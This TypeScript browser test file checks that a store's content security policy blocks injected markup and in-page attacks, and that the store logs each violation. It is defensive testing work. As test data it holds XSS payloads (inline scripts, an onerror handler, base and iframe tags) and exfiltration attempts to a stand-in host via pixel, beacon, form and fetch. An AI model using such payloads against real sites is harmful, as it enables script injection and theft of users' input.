/** The content security policy in a real browser: what an intruder brings in does not run, and the store hears of it. */
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { waitFor } from "../../local/process/wait-for.ts";
import { sharedStore } from "../harness/shared-store.ts";
import { EVENTUALLY_MS } from "../harness/store.ts";
import { browserMissing, launchBrowser, visit } from "./browser.ts";

const store = sharedStore();
const missing = browserMissing();

const ELSEWHERE = "https://elsewhere.example";
/** What somebody might get into a page's markup, where a value were not escaped. */
const INJECTED = `<script>window.intruded = true</script>
<script nonce="guessed">window.intruded = true</script>
<script src="${ELSEWHERE}/code.js"></script>
<img src="/nothing.png" alt="" onerror="window.intruded = true">
<p style="position: fixed">x</p>
<base href="${ELSEWHERE}/">
<iframe src="${ELSEWHERE}/"></iframe>`;

describe.skipIf(missing !== null)(`an intruder${missing === null ? "" : ` (${missing})`}`, () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser.close();
  });

  it("in a shared page's markup runs and loads nothing, and the store hears of it", async () => {
    const { page, complaints, end } = await visit(browser, store.url);
    try {
      await inject(page, "/", INJECTED);
      await page.goto("/");
      await waitFor(() => Promise.resolve(stoppedBy(complaints).has("script-src-attr")), {
        what: "the last thing that is stopped",
        timeoutMs: EVENTUALLY_MS,
      });
      expect(await wasIntruded(page)).toBe(false);
      expect(stoppedBy(complaints)).toEqual(
        new Set(["script-src-elem", "script-src-attr", "style-src-attr", "base-uri", "frame-src"]),
      );
      await waitFor(() => Promise.resolve(wasTold("script-src-elem", "home")), {
        what: "a report in the store's log",
        timeoutMs: EVENTUALLY_MS,
      });
    } finally {
      await end();
    }
  });

  it("among the page's own code can make no code of text, and send nothing away", async () => {
    const { page, complaints, end } = await visit(browser, store.url);
    try {
      await page.goto("/");
      await page.evaluate(tryEverything, ELSEWHERE);
      expect(await wasIntruded(page)).toBe(false);
      const stopped = ["require-trusted-types-for", "trusted-types", "connect-src", "img-src", "form-action"];
      await waitFor(() => Promise.resolve(stoppedBy(complaints).size >= stopped.length), {
        what: "everything to be stopped",
        timeoutMs: EVENTUALLY_MS,
      });
      expect(stoppedBy(complaints)).toEqual(new Set(stopped));
    } finally {
      await end();
    }
  });

  it("in the payment page's markup runs nothing either: it knows no nonce", async () => {
    const { orderId, token } = await store.placed({
      lines: [{ sku: await store.stock.plenty(), quantity: 1 }],
    });
    const { page, complaints, end } = await visit(browser, store.url);
    try {
      await page.goto(`/orders/${orderId}/pay?token=${token}`);
      await inject(page, `/orders/${orderId}/pay`, INJECTED);
      await page.reload();
      // The picture that is not there tells last. (Stripe's fields cannot be waited for: a page whose answer was taken in hand may not load from this machine.)
      await waitFor(() => Promise.resolve(stoppedBy(complaints).has("script-src-attr")), {
        what: "the last thing that is stopped",
        timeoutMs: EVENTUALLY_MS,
      });
      expect(await wasIntruded(page)).toBe(false);
      expect(stoppedBy(complaints)).toEqual(
        new Set(["script-src-elem", "script-src-attr", "style-src-attr", "base-uri", "frame-src"]),
      );
    } finally {
      await end();
    }
  });
});

/** The answer of this path bears more markup than the store wrote; its headers stay the store's. */
async function inject(page: Page, path: string, markup: string): Promise<void> {
  await page.route(
    (url) => url.pathname === path,
    async (route) => {
      const response = await route.fetch({ maxRedirects: 0 });
      if (response.status() !== 200) await route.fulfill({ response });
      else
        await route.fulfill({
          response,
          body: (await response.text()).replace("</main>", `${markup}</main>`),
        });
    },
  );
}

async function wasIntruded(page: Page): Promise<boolean> {
  return await page.evaluate(() => "intruded" in window);
}

/** The directives that stopped something (browser.ts listens). */
function stoppedBy(complaints: readonly string[]): Set<string> {
  return new Set(complaints.flatMap((complaint) => /policy: (\S+) stopped/.exec(complaint)?.[1] ?? []));
}

function wasTold(directive: string, pageKind: string): boolean {
  return store
    .logLines()
    .some((line) =>
      ["page.policy_violated", `"reason":"${directive}"`, `"route":"${pageKind}"`].every((part) =>
        line.includes(part),
      ),
    );
}

/** What code that got in by another way would try next. Runs in the page. */
async function tryEverything(elsewhere: string): Promise<void> {
  const { trustedTypes } = window as unknown as {
    trustedTypes: { createPolicy(name: string, rules: object): unknown };
  };
  const code = "window.intruded = true";
  const attempts: (() => unknown)[] = [
    () => document.body.insertAdjacentHTML("beforeend", `<img src="x" alt="" onerror="${code}">`),
    () => {
      const script = document.createElement("script");
      script.append(code);
      document.body.append(script);
    },
    () => {
      const script = document.createElement("script");
      script.src = `${elsewhere}/code.js`;
      document.body.append(script);
    },
    () => document.body.setAttribute("onclick", code),
    () => trustedTypes.createPolicy("mine", {}),
    () => trustedTypes.createPolicy("holdfast", {}),
    () => {
      new Image().src = `${elsewhere}/pixel.png?what-was-typed`;
    },
    () => navigator.sendBeacon(`${elsewhere}/`, "what was typed"),
    () => {
      const form = document.createElement("form");
      form.action = `${elsewhere}/`;
      document.body.append(form);
      form.submit();
    },
  ];
  for (const attempt of attempts) {
    try {
      attempt();
    } catch {
      // Some are refused by an exception, the others in silence.
    }
  }
  await fetch(`${elsewhere}/`, { mode: "no-cors" }).catch(() => undefined);
}
